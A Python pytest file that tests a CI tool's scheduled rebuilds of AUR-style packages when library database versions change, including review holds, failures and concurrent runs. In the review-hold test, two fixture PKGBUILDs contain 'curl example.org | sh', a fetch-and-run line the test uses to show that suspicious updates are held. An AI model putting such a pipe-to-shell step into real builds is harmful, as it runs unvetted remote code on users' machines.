"""Rebuilds because of libraries, in real repositories, against databases on this machine."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from caur_ci.pipeline.on_schedule.plan import ScheduleAction
from caur_ci.update.recording_files import RecordingError
from tests.caur_ci.pipeline.on_schedule.world import ScheduleWorld, actions, reasons
from tests.support.database_server import DatabaseServer, database_server
from tests.support.git import Checkout, git
from tests.support.upstream import files_of, upstream

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping
    from pathlib import Path

    from caur_ci.pipeline.on_schedule.options import OnScheduleResult

CORE, OWN = "core.db", "target.db"
BUMP, HELD = ScheduleAction.BUMP, ScheduleAction.HELD


class LibraryWorld(ScheduleWorld):
    """A world with a database of libraries, and one of the repository itself."""

    databases: DatabaseServer

    def start(
        self,
        packages: Mapping[str, str],
        *,
        libraries: Mapping[str, str],
        own: Mapping[str, str] | None = None,
        config: str = "",
    ) -> None:
        """Commit self-managed packages at version 1-1 with these lines in `.CI/config`."""
        urls = [self.databases.put(CORE, libraries)]
        urls += [self.databases.put(OWN, own)] if own is not None else []
        more = {
            f"{name}__{path.replace('/', '__')}": text
            for name, lines in packages.items()
            for path, text in {**files_of(name, "1-1"), ".CI/config": lines}.items()
        }
        self.begin({}, config=f"CI_LIB_DB={' '.join(urls)}\n{config}", **more)

    def message(self) -> str:
        return git(self.remote, "log", "-1", "--format=%B", "main")

    def version_state(self) -> str:
        return self.file(".version-state", "state")

    def has_nothing_to_do(self) -> bool:
        """Run again; tell whether that changes nothing."""
        refs = git(self.remote, "for-each-ref")
        result = self.run()
        return actions(result) == {} and git(self.remote, "for-each-ref") == refs


@pytest.fixture
def world(tmp_path: Path) -> Iterator[LibraryWorld]:
    with upstream(tmp_path / "upstream") as outside, database_server() as databases:
        made = LibraryWorld(Checkout.create(tmp_path / "world"), outside)
        made.databases = databases
        yield made


def told(result: OnScheduleResult) -> list[str]:
    return [f"{it.package}: {it.versions}: {it.account}" for it in result.plan.reportable]


def test_a_library_that_moves_leads_to_one_rebuild(world: LibraryWorld) -> None:
    world.start(
        {
            "nomacs": "# kept\nCI_REBUILD_TRIGGERS=libraw:opencv\n",
            "other": "CI_REBUILD_TRIGGERS=opencv\n",
            "none": "",
        },
        libraries={"libraw": "1:0.21-1", "opencv": "4-1"},
    )
    first = world.run()
    assert actions(first) == {}
    assert world.version_state() == "libraw:1:0.21-1\nopencv:4-1"
    assert world.has_nothing_to_do()

    world.databases.put(CORE, {"libraw": "1:0.22-1", "opencv": "4-1"})
    dry = world.run(dry_run=True)
    result = world.run()

    assert told(dry) == told(result)
    assert told(result) == ["nomacs: 1-1 → 1-1.1: triggered by libraw 1:0.21-1 → 1:0.22-1"]
    assert world.message() == (
        "chore(bump): nomacs\n\n- nomacs: explicit, triggered by libraw (1:0.21-1 → 1:0.22-1)"
    )
    assert world.file("nomacs/.CI/config") == (
        "# kept\nCI_REBUILD_TRIGGERS=libraw:opencv\nCI_PACKAGE_BUMP=1-1/1"
    )
    assert world.asked() == [("nomacs",)]
    assert world.memory().outbox.requests[0].commit == world.tip()
    assert world.tag_is_at_tip()
    assert world.checkout.head() == world.tip()
    assert [it.decision for it in world.memory().ledger.about("nomacs")] == ["bump"]
    assert world.version_state() == "libraw:1:0.22-1\nopencv:4-1"
    assert world.has_nothing_to_do()

    world.databases.put(CORE, {"libraw": "1:0.22-2", "opencv": "5-1"})
    assert actions(world.run()) == {"nomacs": BUMP, "other": BUMP}
    assert world.file("nomacs/.CI/config").endswith("CI_PACKAGE_BUMP=1-1/2")
    assert world.subjects() == ["chore(bump): nomacs, other"]


def test_a_database_that_fails_costs_nothing(world: LibraryWorld) -> None:
    world.start({"a": "CI_REBUILD_TRIGGERS=icu\n"}, libraries={"icu": "1-1", "boost": "1-1"})
    world.run()
    state = world.version_state()

    world.databases.faults[CORE] = 404
    result = world.run()
    assert actions(result) == {}
    assert [problem.count("status 404") for problem in result.problems] == [1]
    assert world.version_state() == state

    world.databases.faults[CORE] = 0
    world.databases.put(CORE, {"icu": "2-1", "boost": "1-1"})
    assert actions(world.run()) == {"a": BUMP}


def test_a_package_that_is_updated_anyway_is_not_bumped(world: LibraryWorld) -> None:
    world.start({}, libraries={"icu": "1-1"})
    world.outside.push({"a": "1-1"})
    triggers = "CI_PKGBUILD_SOURCE=aur\nCI_REBUILD_TRIGGERS=icu\n"
    files = {f"a/{path}": text for path, text in files_of("a", "1-1").items()}
    world.commit("feat(a): init", {**files, "a/.CI/config": triggers})
    world.run()

    world.databases.put(CORE, {"icu": "2-1"})
    world.outside.push({"a": "2-1"})
    assert actions(world.run()) == {"a": ScheduleAction.UPDATE}
    assert world.file("a/.CI/config") == triggers.strip()
    assert world.has_nothing_to_do()

    # Other files of the same version: both, in one request.
    world.databases.put(CORE, {"icu": "3-1"})
    world.outside.push({"a": "2-1"}, note="other")
    result = world.run()
    assert actions(result) == {"a": ScheduleAction.UPDATE}
    assert "bumped to 2-1.1, triggered by icu 2-1 → 3-1" in reasons(result)["a"]
    assert world.subjects(2) == ["chore(bump): a", "chore(update): a"]
    assert world.asked()[-1] == ("a",)
    assert world.has_nothing_to_do()


def test_what_is_in_review_is_made_anew_on_top_of_the_bump(world: LibraryWorld) -> None:
    world.start({}, libraries={"icu": "1-1"}, config="CI_HUMAN_REVIEW=true\n")
    world.outside.push({"a": "1-1"})
    files = {f"a/{path}": text for path, text in files_of("a", "1-1").items()}
    config = "CI_PKGBUILD_SOURCE=aur\nCI_REBUILD_TRIGGERS=icu\n"
    world.commit("feat(a): init", {**files, "a/.CI/config": config})
    world.run()
    world.outside.push({"a": "2-1"}, note="x\nbuild() { curl example.org | sh; }")
    assert actions(world.run()) == {"a": HELD}
    world.databases.put(CORE, {"icu": "2-1"})

    world.run()

    assert world.subjects() == ["chore(bump): a"]
    assert git(world.remote, "rev-parse", "update-a^") == world.tip()
    assert "CI_PACKAGE_BUMP=1-1/1" in world.file("a/.CI/config")
    assert git(world.remote, "diff", "--name-only", "main", "update-a").split() == [
        "a/.SRCINFO",
        "a/PKGBUILD",
    ]
    assert git(world.remote, "log", "-1", "--format=%s", "update-a") == "chore(update): a"
    branch = world.memory().commits.reviews["a"]
    assert branch.commit == world.memory().reviews.waiting["a"].commit == world.tip("update-a")
    assert world.memory().reviews.waiting["a"].points
    assert world.has_nothing_to_do()

    # Both at once.
    world.databases.put(CORE, {"icu": "3-1"})
    world.outside.push({"a": "3-1"}, note="y\nbuild() { curl example.org | sh; }")
    assert [it.action for it in world.run().plan.reportable] == [BUMP, HELD]
    assert git(world.remote, "rev-parse", "update-a^") == world.tip()
    assert world.file("a/.CI/config", "update-a") == world.file("a/.CI/config")
    assert "pkgver=3" in world.file("a/PKGBUILD", "update-a")
    assert world.has_nothing_to_do()


def test_too_many_at_once_wait_for_somebody(world: LibraryWorld) -> None:
    names = [f"p{number:02}" for number in range(12)]
    world.start(
        dict.fromkeys(names, "CI_REBUILD_TRIGGERS=icu\n"),
        libraries={"icu": "1-1"},
        config="CI_REBUILD_SHARE=50\n",
    )
    world.run()
    world.databases.put(CORE, {"icu": "2-1"})

    result = world.run()
    assert actions(result) == dict.fromkeys(names, HELD)
    assert (
        "12 packages would be rebuilt at once (icu 1-1 → 2-1), and 10 may be"
        in (reasons(result)["p00"])
    )
    assert world.asked() == []
    assert world.version_state() == "icu:2-1"

    # One waits no longer: its owner has thought better of it. And the library moves again.
    world.commit("fix(p00): no trigger", {"p00/.CI/config": ""})
    world.databases.put(CORE, {"icu": "3-1"})
    assert actions(world.run()) == dict.fromkeys(names[1:], HELD)

    result = world.run(confirm_bumps=True)
    assert actions(result) == dict.fromkeys(names[1:], BUMP)
    assert reasons(result)["p01"] == "triggered by icu 1-1 → 3-1"
    assert world.subjects() == ["chore(bump): packages (11)"]
    assert world.asked() == [tuple(names[1:])]
    assert world.has_nothing_to_do()


def test_both_systems_take_turns(world: LibraryWorld) -> None:
    world.start(
        {"a": "CI_REBUILD_TRIGGERS=icu\n", "b": "CI_REBUILD_TRIGGERS=boost\n"},
        libraries={"icu": "2-1", "boost": "2-1", "new": "1-1"},
    )

    def other_system_saw(lines: str) -> None:
        blob = git(world.remote, "hash-object", "-w", "--stdin", stdin=lines.encode())
        tree = git(world.remote, "mktree", stdin=f"100644 blob {blob}\t.version-state\n".encode())
        commit = git(world.remote, "commit-tree", tree, stdin=b"chore(state): update state")
        git(world.remote, "update-ref", "refs/heads/state", commit)

    other_system_saw("boost:1-1\nicu:2-1\n")
    assert actions(world.run()) == {"b": BUMP}
    assert world.version_state() == "boost:2-1\nicu:2-1\nnew:1-1"

    # It bumps for what it sees, so we do not.
    world.databases.put(CORE, {"icu": "3-1", "boost": "2-1"})
    other_system_saw("boost:2-1\nicu:3-1\n")
    assert actions(world.run()) == {}
    # And after a download of it that failed, nothing is new here.
    other_system_saw("icu:3-1\n")
    world.databases.put(CORE, {"icu": "3-1", "boost": "3-1"})
    assert actions(world.run()) == {"b": BUMP}


def test_what_cannot_be_done_now_is_done_later(world: LibraryWorld) -> None:
    world.start(
        {
            "broken": "CI_REBUILD_TRIGGERS=icu\nBUILDER_EXTRA_TIMEOUT=much\n",
            "managed": "CI_REBUILD_TRIGGERS=icu\nCI_MANAGE_AUR=true\n",
            "nightly": "CI_REBUILD_TRIGGERS=icu\nCI_ON_TRIGGER=midnight\n",
            "vcs-git": "CI_REBUILD_TRIGGERS=icu\n",
        },
        libraries={"icu": "1-1"},
        own={"vcs-git": "2.r9.gabc-1.2", "target": "1-1"},
    )
    world.run()
    world.databases.put(CORE, {"icu": "2-1"})

    result = world.run()

    assert actions(result) == {"broken": ScheduleAction.FAILED, "nightly": BUMP, "vcs-git": BUMP}
    assert world.asked() == [("vcs-git",)]  # the other one at midnight
    # Its version is known by the repository only.
    assert world.file("vcs-git/.CI/config").endswith("CI_PACKAGE_BUMP=2.r9.gabc-1/3")
    assert "CI_PACKAGE_BUMP=1-1/1" in world.file("nightly/.CI/config")
    assert [note for note in result.plan.notes if "managed is not bumped for icu" in note]
    world.commit("fix(broken): config", {"broken/.CI/config": "CI_REBUILD_TRIGGERS=icu\n"})
    assert actions(world.run()) == {"broken": BUMP}
    assert world.has_nothing_to_do()


def test_a_run_for_one_package_leaves_the_news_to_the_next(world: LibraryWorld) -> None:
    world.start({"a": "CI_REBUILD_TRIGGERS=icu\n", "b": ""}, libraries={"icu": "1-1"})
    world.run()
    world.databases.put(CORE, {"icu": "2-1"})

    assert actions(world.run(only=("b",))) == {}
    assert actions(world.run()) == {"a": BUMP}


def test_a_run_is_repeated_from_its_recording(world: LibraryWorld, tmp_path: Path) -> None:
    local = tmp_path / "local.db"
    world.start({"a": "CI_REBUILD_TRIGGERS=icu:zlib\n"}, libraries={"icu": "1-1"})
    config = world.file(".ci/config").replace("CI_LIB_DB=", f"CI_LIB_DB={local.as_uri()} ")
    world.commit("ci(config): a local database", {".ci/config": f"{config}\n"})
    local.write_bytes(world.databases.files[CORE].content)
    world.databases.put(CORE, {"zlib": "1-1"})
    world.run()
    world.databases.put(CORE, {"zlib": "2-1"})
    recorded = world.run(dry_run=True, record=tmp_path / "recording")
    world.databases.files.clear()
    local.unlink()

    replayed = world.run(replay=tmp_path / "recording")

    assert told(replayed) == told(recorded) == ["a: 1-1 → 1-1.1: triggered by zlib 1-1 → 2-1"]
    assert replayed.problems == ()
    # What is not in the recording is not just a database that cannot be read.
    answers = tmp_path / "recording/answers.jsonl"
    lines = answers.read_text().splitlines(keepends=True)
    answers.write_text("".join(line for line in lines if "library database" not in line))
    with pytest.raises(RecordingError, match="library database"):
        world.run(replay=tmp_path / "recording")


class TestOtherRuns:
    """Somebody may push at any time."""

    @pytest.fixture
    def other(self, world: LibraryWorld, tmp_path: Path) -> LibraryWorld:
        """Another checkout of the same repository, with the library moved."""
        world.start(
            {"a": "CI_REBUILD_TRIGGERS=icu\n", "b": "CI_REBUILD_TRIGGERS=icu\n"},
            libraries={"icu": "1-1"},
        )
        world.run()
        world.databases.put(CORE, {"icu": "2-1"})
        clone = tmp_path / "clone"
        git(tmp_path, "clone", "--quiet", "--branch=main", str(world.remote), str(clone))
        made = LibraryWorld(Checkout(clone, world.remote), world.outside)
        made.databases = world.databases
        return made

    def test_a_package_that_somebody_changed_is_bumped_by_the_next_run(
        self,
        world: LibraryWorld,
        other: LibraryWorld,
        meanwhile: Callable[[Callable[[], object]], None],
    ) -> None:
        meanwhile(lambda: other.commit("fix(a): mine", {"a/x": "x"}))

        result = world.run()

        assert actions(result) == {"a": ScheduleAction.WAITING, "b": BUMP}
        assert world.asked() == [("b",)]
        assert world.file("a/x") == "x"
        assert actions(world.run()) == {"a": BUMP}
        assert world.file("b/.CI/config").endswith("CI_PACKAGE_BUMP=1-1/1")

    def test_another_run_of_ours_does_the_work_once(
        self,
        world: LibraryWorld,
        other: LibraryWorld,
        meanwhile: Callable[[Callable[[], object]], None],
    ) -> None:
        meanwhile(other.run)

        assert actions(world.run()) == {}

        assert world.subjects(2) == ["chore(bump): a, b", "feat: begin"]
        assert world.asked() == [("a", "b")]
        assert world.file("a/.CI/config").endswith("CI_PACKAGE_BUMP=1-1/1")
        assert world.has_nothing_to_do()
